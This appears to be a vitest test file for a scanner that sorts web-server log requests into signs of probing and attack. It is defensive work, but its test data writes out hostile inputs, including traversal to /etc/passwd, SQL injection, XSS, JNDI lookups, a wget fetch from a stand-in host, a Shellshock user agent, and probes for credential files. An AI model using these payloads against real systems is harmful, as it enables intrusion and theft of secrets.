import { describe, expect, it } from 'vitest';
import { KnownAgents } from '../../../../src/scan/behaviour/known-agents.ts';
import { type SeenRequest, signsOf } from '../../../../src/scan/behaviour/signs-of-request.ts';
import { factsOf } from '../../../../src/scan/behaviour/known-targets.ts';

interface Asked extends Partial<SeenRequest> {
  readonly agent?: string;
}

/** `sign what`, or `sign` alone, of a request: by default a GET answered 404. */
function signs(target: string, { agent = 'Mozilla/5.0', ...rest }: Asked = {}): string[] {
  const request: SeenRequest = {
    method: 'GET',
    target,
    request: '',
    status: 404,
    sizeBytes: 512,
    referer: '-',
    site: 'alice.example',
    ...rest,
  };
  return signsOf(request, factsOf(target), new KnownAgents().factsOf(agent)).map(({ sign, what }) => `${sign} ${what}`);
}

const post = (target: string, status = 200, more: Asked = {}): string[] => signs(target, { method: 'POST', status, ...more });

describe('searches', () => {
  it.each([
    ['/?s=credit+union+and+select+accounts', 'search /'],
    ['/page/2/?s=shoes', 'search /page/2'],
    ['/search?q=o%27brien', 'search /search'],
    ['/catalogsearch/result/?q=shoes', 'search /catalogsearch/result'],
  ])('are told, and nothing else: %s', (target, told) => {
    expect(signs(target)).toEqual([told]);
    expect(post(target)).toEqual([]);
  });
});

describe('ordinary requests', () => {
  it.each([
    ['/'],
    ['/wp-content/uploads/2024/missing.jpg'],
    ['/style.css?ver=6.4.2'],
    ['/a-page-that-is-gone/'],
    ['/avatar/17?s=96'],
    ['/api/search?q=shoes'],
    ['/?s='],
    ['/search?page=2'],
    ['/images/{{item.image}}'],
    ['/javascript:void(0)'],
    ["/javascript:alert('hello')"],
    ['/%3C?php%20echo%20$link%20?%3E'],
    ['/file:///C:/Users/alice/page.html'],
    ['/?image=http://alice.example/a.jpg?w=300'],
    ['/?q=delete+from+cart'],
    ["/?name=O'Brien%20and%20sons"],
    ['/?q=iframe+onload+alert'],
    ['/a/../../b/picture.png'],
    ['/blog/what-is-powershell-and-bin-shells/'],
    ['/bin/shop/index'],
    ['/?_=1795329585123'],
    ['/product/?utm_source=x&fbclid=IwAR0abcDEF123'],
    ['/.well-known/acme-challenge/x7f3k9'],
    ['/wp-json/wp/v2/users/me'],
    ['/b\\xc3\\xbccher/'],
    ['/robots.txt'],
  ])('say nothing: %s', (target) => {
    expect(signs(target)).toEqual([]);
  });

  it('say nothing where scripts answer', () => {
    expect(signs('/index.php?a=1', { status: 200 })).toEqual([]);
    expect(signs('/wp-login.php', { status: 200 })).toEqual([]);
    expect(signs('/xmlrpc.php', { status: 405 })).toEqual([]);
    expect(post('/wp-admin/admin-ajax.php')).toEqual([]);
    expect(post('/wp-cron.php?doing_wp_cron=1795329585.1234')).toEqual([]);
    expect(signs('/files/', { method: 'PROPFIND', status: 207 })).toEqual([]);
  });

  it.each([
    ['curl/8.5.0'],
    ['python-requests/2.31'],
    ['Go-http-client/1.1'],
    ['okhttp/4.9'],
    ['Java/17'],
    ['Wget/1.21'],
    ['Mozilla/5.0 (X11; curl)'],
  ])('say nothing of a general library: %s', (agent) => {
    expect(signs('/', { agent, status: 200 })).toEqual([]);
  });
});

describe('logins', () => {
  it.each([['/wp-login.php'], ['//wp-login.php'], ['/WP-login.php/'], ['/%77p-login.php'], ['/wp-login.php?action=login']])(
    'are %s',
    (target) => {
      expect(post(target, 403)).toEqual(['login /wp-login.php']);
    },
  );

  it('may lie in a folder', () => {
    expect(post('/blog/wp-login.php', 302)).toEqual(['login /blog/wp-login.php']);
  });

  it('are not the password of a post, nor a good-bye', () => {
    expect(post('/wp-login.php?action=postpass', 302)).toEqual([]);
    expect(post('/wp-login.php?action=logout', 302)).toEqual([]);
  });

  it('are guesses all the same where the form is the answer: what was sent may name another action', () => {
    expect(post('/wp-login.php?action=postpass', 200, { sizeBytes: 4_500 })).toEqual(['login /wp-login.php']);
    expect(post('/wp-login.php?action=postpass', 200, { sizeBytes: 20 })).toEqual([]);
    expect(post('/wp-login.php?action=logout&action=login', 302)).toEqual(['login /wp-login.php']);
    expect(post('/wp-login.php?action=logout&action[]=x', 302)).toEqual(['login /wp-login.php']);
  });

  it('by XML-RPC leave Jetpack out', () => {
    expect(post('//xmlrpc.php', 301)).toEqual(['xmlrpc /xmlrpc.php']);
    expect(post('/xmlrpc.php?for=jetpack&token=x', 200, { agent: 'Jetpack by WordPress.com' })).toEqual([]);
    expect(post('/xmlrpc.php?for=jetpack&token=x')).toEqual(['xmlrpc /xmlrpc.php']);
    expect(post('/xmlrpc.php?for=jetpackx')).toEqual(['xmlrpc /xmlrpc.php']);
  });
});

describe('other logins', () => {
  it.each([
    ['/administrator/index.php'],
    ['/joomla/administrator/'],
    ['/user/login'],
    ['/phpMyAdmin-4.9/index.php'],
    ['/pma/'],
    ['/login'],
    ['/admin/login.php'],
    ['/index.php?route=common/login'],
    ['/users/sign_in'],
    ['/j_security_check'],
    ['/rest/V1/integration/admin/token'],
  ])('are %s', (target) => {
    for (const status of [200, 303, 403]) expect(post(target, status)).toEqual([expect.stringMatching(/^other-login \//)]);
    expect(signs(target, { status: 200 })).toEqual([]);
  });

  it.each([
    ['/index.php?route=common/login', '/index.php?route=common/login'],
    ['/index.php?token=secret&ROUTE=account%2Flogin&email=a@b.example', '/index.php?route=account/login'],
    ['/?_task=login&_action=x', '/?_task=login'],
    ['/index.php?option=com_users&task=user.login&x=<b>', '/index.php?option=com_users&task=user.login'],
    ['/index.php?action=login2', '/index.php?action=login2'],
    ['/index.php?action=login', '/index.php?action=login'],
    ['/x.php?loginProvider=anything-at-all', '/x.php?loginprovider='],
    ['/wiki/index.php?title=Special:UserLogin&returnto=Main', '/wiki/index.php?title=special:userlogin'],
    ['/login?next=/secret', '/login'],
    ['/phpmyadmin/index.php?pma_username=root&pma_password=x', '/phpmyadmin/index.php?pma_password'],
    ['/phpmyadmin/index.php?pma_username=root', '/phpmyadmin/index.php'],
  ])('are named by what tells them, never by what else somebody sent: %s', (target, name) => {
    expect(post(target, 403).filter((sign) => sign.startsWith('other-login'))).toEqual([`other-login ${name}`]);
  });

  it.each([
    ['/administrator/index.php?option=com_content&task=save'],
    ['/phpmyadmin/index.php?route=/sql'],
    ['/oauth/token'],
    ['/wp-admin/admin-ajax.php'],
    ['/login-help/'],
    ['/blog/how-to-log-in/'],
    ['/index.php?route=common/home'],
    ['/logout'],
  ])('are not %s', (target) => {
    expect(post(target)).toEqual([]);
  });
});

describe('comments', () => {
  it('are sent to the pages that take them in', () => {
    for (const target of ['/wp-comments-post.php', '/blog/wp-comments-post.php', '/2024/01/post/trackback/', '/comment/reply/12'])
      expect(post(target, 403)).toEqual([expect.stringMatching(/^comment \//)]);
    expect(signs('/wp-comments-post.php', { status: 405 })).toEqual([]);
  });
});

describe('pingbacks', () => {
  it('are told by who verifies them', () => {
    const agent = 'WordPress/6.8; https://bob.example; verifying pingback from 203.0.113.9';
    expect(signs('/', { agent, status: 200 })).toEqual(['pingback /']);
    expect(signs('/', { agent: 'WordPress/6.8; https://bob.example', status: 200 })).toEqual([]);
  });
});

describe('user enumeration', () => {
  it.each([
    ['/?author=1', '/'],
    ['/blog/?x=1&author=23', '/blog'],
    ['/?%61uthor=1', '/'],
    ['/index.php?author=2', '/index.php'],
    ['/wp-json/wp/v2/users', '/wp-json/wp/v2/users'],
    ['/wp-json/wp/v2/users/1', '/wp-json/wp/v2/users/1'],
    ['/?rest_route=/wp/v2/users', '/'],
    ['/?rest_route=%2Fwp%2Fv2%2FUsers%2F', '/'],
  ])('is %s', (target, what) => {
    expect(signs(target, { status: 301 })).toEqual([`user-enumeration ${what}`]);
  });

  it.each([['/?author=alice'], ['/edit.php?author=1'], ['/wp-json/wp/v2/posts']])('is not %s', (target) => {
    expect(signs(target, { status: 200 })).toEqual([]);
  });
});

describe('scripts and secrets', () => {
  it.each([['/x.php'], ['/old/upload.phtml'], ['/a.aspx'], ['/wp-content/plugins/x/readme.txt'], ['/ckeditor/x'], ['/evil.php.suspected']])(
    'a script that is missing: %s',
    (target) => {
      expect(signs(target)).toEqual([`missing-script ${target}`]);
    },
  );

  it('are missing with any refusal', () => {
    for (const status of [400, 403, 404, 406, 410, 500]) expect(signs('/x.php', { status })).toHaveLength(1);
    for (const status of [200, 304, 405, 499]) expect(signs('/x.php', { status })).toEqual([]);
  });

  it('are turned away with answers that say nothing of them', () => {
    for (const status of [301, 302, 401, 429, 502, 503]) expect(signs('/x.php', { status })).toEqual(['turned-away /x.php']);
    for (const target of ['/index.php', '/wp-admin/post.php', '/wp-login.php', '/xmlrpc.php', '/x.css'])
      expect(signs(target, { status: 302 })).toEqual([]);
    expect(signs('/wp-admin/css/x.php', { status: 302 })).toEqual(['turned-away /wp-admin/css/x.php']);
  });

  it.each([
    ['/backup.zip'],
    ['/db-2024.tar.gz'],
    ['/old/www_old.rar'],
    ['/alice.zip'],
    ['/alice.example.7z'],
    ['/www.alice.example.tgz'],
    ['/alice_example-backup.zip'],
    ['/192.0.2.1.zip'],
  ])('a copy of the site: %s', (target) => {
    for (const status of [404, 301, 502, 200]) expect(signs(target, { status })).toEqual([`backup ${target}`]);
  });

  it.each([
    ['/plugin.1.2.zip'],
    ['/debian/dists/stable/main/Packages.gz'],
    ['/photos-of-alice.zip'],
    ['/backups/'],
    ['/bob.zip'],
    ['/jquery-3.7.1.tar.gz'],
  ])('no copy of the site: %s', (target) => {
    expect(signs(target)).toEqual([]);
  });

  it.each([
    ['/.env'],
    ['/api/.env.production'],
    ['/.git/config'],
    ['/wp-config.php.bak'],
    ['/wp-config.old'],
    ['/.aws/credentials'],
    ['/config.php~'],
  ])('a secret: %s', (target) => {
    expect(signs(target, { status: 301 })).toEqual([`secret ${target}`]);
    expect(signs(target, { status: 200 })).toEqual([`secret ${target}`, `secret-answered ${target}`]);
  });

  it('a dump of a database is a secret and a copy of the site', () => {
    for (const target of ['/dump.sql', '/db/backup.sql.gz'])
      expect(signs(target, { status: 301 })).toEqual([`backup ${target}`, `secret ${target}`]);
  });

  it('a secret without a body was not given away', () => {
    expect(signs('/.env', { status: 200, sizeBytes: 0 })).toEqual(['secret /.env']);
    expect(signs('/.env', { status: 200, sizeBytes: null })).toEqual(['secret /.env']);
    expect(signs('/.env', { status: 200, method: 'HEAD' })).toEqual(['secret /.env']);
    expect(signs('/wp-config.php', { status: 200 })).toEqual([]);
  });

  it('a web shell', () => {
    expect(signs('/wp-content/alfa.php', { status: 200 })).toEqual(['shell-answered /wp-content/alfa.php']);
    expect(signs('/wso.php', { status: 301 })).toEqual(['turned-away /wso.php', 'shell-answered /wso.php']);
    expect(signs('/wso.php', { status: 301, sizeBytes: 0 })).toEqual(['turned-away /wso.php']);
    expect(signs('/alfa.html', { status: 200 })).toEqual([]);
  });
});

describe('payloads', () => {
  it.each([
    ['/?file=../../../etc/passwd', 'traversal'],
    ['/cgi-bin/%2e%2e/%2e%2e/bin/sh', 'traversal'],
    ['/x/..%2f..%2fwin.ini', 'traversal'],
    ['/?id=1%20UNION%20ALL%20SELECT%20NULL', 'sql'],
    ['/?id=1/**/union/**/select/**/1,2', 'sql'],
    ['/?id=1+and+1=1', 'sql'],
    ["/?u='%20or%20'1'='1", 'sql'],
    ['/?id=1%2520union%2520select%25201', 'sql'],
    ['/?x=%3Cscript%3Ealert(1)', 'script'],
    ['/?s=%3Cscript%3Ealert(1)', 'script in search words'],
    ['/find?a=1&Keywords=1%20union%20select%201', 'sql in search words'],
    ['/find?q=/etc/passwd', 'traversal'],
    ['/cgi-bin/&q=/../../../etc/passwd', 'traversal'],
    ['/?s=1&id=1%20union%20select%201', 'sql'],
    ['/get?file=..%2fconfig.php', 'traversal'],
    ['/timthumb.php?src=http://flickr.com.x.example/a.php', 'known hole: old plugin of WordPress'],
    ['/?x=${jndi:ldap://x.example/a}', 'jndi'],
    ['/?x=%24%7Bjndi:ldap', 'jndi'],
    ['/?n={{7*7}}', 'template'],
    ['/?page=php://input', 'php-wrapper'],
    ['/?c=;wget http://x.example/a.sh', 'command'],
    ['/?c=|id|', 'command'],
    ["/?u=admin'--", 'sql'],
    ['/?id=1;DROP%20TABLE%20users', 'sql'],
    ['/?id=1+having+1=1', 'sql'],
    ['/?id=(SELECT%20password%20FROM%20users)', 'sql'],
    ['/?x=%22%20onmouseover=prompt(1)', 'script'],
    ["/?x='-alert(1)-'", 'script'],
    ['/?u=javascript:alert(1)', 'script'],
    ['/?x=O:8:%22stdClass%22:0:{}', 'php-wrapper'],
    ['/a.php%00.jpg', 'traversal'],
    ['/?x=$(sleep%205)', 'command'],
    ['/?page=http://evil.example/shell.txt?', 'remote-file'],
    ['/?url=http://169.254.169.254/latest/meta-data/', 'remote-file'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'known hole: PHPUnit'],
    ['/boaform/admin/formLogin', 'known hole: home router'],
    ['/index.php?s=/Index/\\\\think\\\\app/invokefunction', 'known hole: ThinkPHP'],
    ['/_ignition/execute-solution', 'known hole: Laravel'],
    ['/solr/admin/info/system', 'known hole: Solr'],
    ['/actuator/env', 'known hole: Spring'],
    ['/manager/html', 'known hole: Tomcat'],
    ['/HNAP1/', 'known hole: home router'],
    ['/UD/act?1', 'known hole: home router'],
    ['/language/Swedish${IFS}&&cd${IFS}/tmp', 'command'],
    ['/%0d%0aSet-Cookie:a=1', 'header'],
    ['/?lang=en%0d%0aSet-Cookie:%20a=1', 'header'],
    ['/?q=a%250d%250aContent-Length:%200', 'header'],
    ['/?a=fetch&content=<php>die(1)</php>', 'known hole: ThinkCMF'],
    ['/CFIDE/administrator/', 'known hole: ColdFusion'],
    ['/@fs/etc/hosts?raw', 'known hole: Vite'],
  ])('%s', (target, what) => {
    expect(signs(target)).toContain(`payload ${what}`);
  });

  it('a question in a language like SQL is none, where all that is quoted is a text of it', () => {
    for (const query of [
      'jql=project+%3D+%22AB%22+AND+status+%3D+%22Open%22',
      'jql=%22Epic Link%22 %3D AB-1 AND status in (%22Open%22, %22New%22) AND type %3D %22Bug%22',
      "where=STATE%3D'CA'%20AND%20POP%3D1",
      "CQL_FILTER=NAME='x' AND TYPE='y'",
      "sql=select * from orders where state = 'open' and city = 'Rome'",
    ])
      expect(signs(`/search?${query}`, { status: 200 })).toEqual([]);
    for (const query of ["id=1' and 'a'='a", "u=' or 'a'='a", "n=x') or ('a'='a", 'u=%22 or %22a%22=%22a', "w=a='b' or 1=1"])
      expect(signs(`/search?${query}`, { status: 200 })).toEqual(['payload sql']);
  });

  it('a file that lies here by such a name is none', () => {
    for (const target of ['/mirror/root/etc/passwd', '/mirror/root/bin/busybox']) {
      expect(signs(target, { status: 200 })).toEqual([]);
      expect(signs(target)).not.toEqual([]);
    }
    for (const target of ['/etc/passwd', '/a/b/../../etc/passwd', '/a/b/c?f=/etc/passwd', '/cgi-bin/.%2e/.%2e/bin/sh'])
      expect(signs(target, { status: 200 })).not.toEqual([]);
  });

  it('a text of several lines is none', () => {
    for (const target of [
      '/?text=Meet%0d%0aLocation:%20https://meet.example',
      '/?note=Small:%202%0d%0aX-Large:%203',
      '/?text=a%0d%0ab%0d%0aX',
      '/?text=x%0AContent:%20y',
    ])
      expect(signs(target, { status: 200 })).toEqual([]);
  });

  it('a script among pictures that answers what is sent to it', () => {
    const path = '/wp-content/uploads/2026/05/a1.php';
    expect(post(path)).toEqual(['payload known hole: script among files']);
    expect(post(path, 404)).toEqual([`missing-script ${path}`]);
    expect(signs(path, { status: 200 })).toEqual([]);
    for (const own of ['/wp-content/plugins/shop/pay.php', '/wp-admin/admin-ajax.php', '/uploads/form.php', '/sites/all/a.php'])
      expect(post(own)).toEqual([]);
  });

  it('a script that was not let be put here', () => {
    expect(signs('/shell.jsp', { method: 'PUT', status: 405 })).toEqual(['payload known hole: upload by PUT']);
    for (const status of [201, 204, 401])
      expect(signs('/dav/user.php', { method: 'PUT', status })).not.toContain('payload known hole: upload by PUT');
    expect(signs('/api/orders/7', { method: 'PUT', status: 405 })).toEqual([]);
  });

  it('leave software alone that answers', () => {
    for (const target of ['/solr/core/select', '/manager/html', '/owa/auth/logon.aspx', '/actuator/env'])
      expect(signs(target, { status: 200 })).toEqual([]);
  });

  it('may stand in user agent and referer', () => {
    expect(signs('/', { agent: '${jndi:ldap://x}', status: 200 })).toEqual(['payload jndi in user agent']);
    expect(signs('/', { agent: '() { :; }; /bin/bash -c id', status: 200 })).toEqual(['payload command in user agent']);
    expect(signs('/', { referer: '${jndi:dns://x}', status: 200 })).toEqual(['payload jndi in referer']);
  });

  it('a method that nobody uses', () => {
    expect(signs('/', { method: 'TRACK', status: 405 })).toEqual(['payload trace method']);
  });

  it('take no longer with hostile length', () => {
    for (const piece of ['/*', "' or ", '%25', '../', '${', 'union select ', '\\x', 'wget -a '])
      expect(Array.isArray(signs(`/?${piece.repeat(9000)}`))).toBe(true);
  });
});

describe('other signs', () => {
  it.each([
    ['sqlmap/1.8#stable (https://sqlmap.org)', 'attack-tool: sqlmap'],
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)', 'scanner: nmap scripting engine'],
    ['Mozilla/5.0 zgrab/0.x', 'scanner: zgrab'],
    ['WPScan v3.8', 'attack-tool: wpscan'],
    ['Mozilla/5.0 (compatible; MJ12bot/v1.4.8)', 'scraper: mj12bot'],
  ])('a bad agent: %s', (agent, what) => {
    expect(signs('/', { agent, status: 200 })).toEqual([`bad-agent ${what}`]);
  });

  it.each([['/?8301245577'], ['/shop/?x7f3k9q2'], ['/?QKDXZ=PWMRA']])('a query past every cache: %s', (target) => {
    expect(signs(target, { status: 200 })).toHaveLength(1);
    expect(signs(target, { status: 200 })[0]).toMatch(/^cache-buster /);
  });

  it.each([
    ['\\x16\\x03\\x01\\x02', 'TLS on a plain port'],
    ['SSH-2.0-Go', 'SSH'],
    ['\\x03\\x00\\x00/*\\xE0', 'remote desktop'],
    ['GARBAGE', 'no HTTP request'],
  ])('something else than HTTP: %s', (request, what) => {
    expect(signs('', { method: '', request, status: 400 })).toEqual([`not-web ${what}`]);
  });

  it('nothing that was received is nothing', () => {
    expect(signs('', { method: '', request: '-', status: 400 })).toEqual([]);
    expect(signs('', { method: '', request: '-', status: 408 })).toEqual(['slow-request no request']);
  });

  it('a search for a proxy', () => {
    expect(signs('http://other.example/', { status: 200 })).toEqual(['proxy-try other.example']);
    expect(signs('other.example:443', { method: 'CONNECT', status: 405 })).toEqual(['proxy-try other.example:443']);
    for (const host of ['alice.example', 'WWW.Alice.example', 'shop.alice.example:8080'])
      expect(signs(`http://${host}/`, { status: 200 })).toEqual([]);
    expect(signs('/', { method: 'ABCD', status: 400 })).toEqual(['not-web unknown method']);
  });
});

describe('attacks that are made of ordinary letters', () => {
  it.each([
    ['/?f=/etc/passwd'],
    ['/proc/self/environ'],
    ['/?x=allow_url_include'],
    ['/?t=information_schema.tables'],
    ['/?f=/bin/sh'],
    ['/?x=document.cookie'],
  ])('are found all the same: %s', (target) => {
    expect(signs(target, { status: 200 })[0]).toMatch(/^payload /);
  });
});
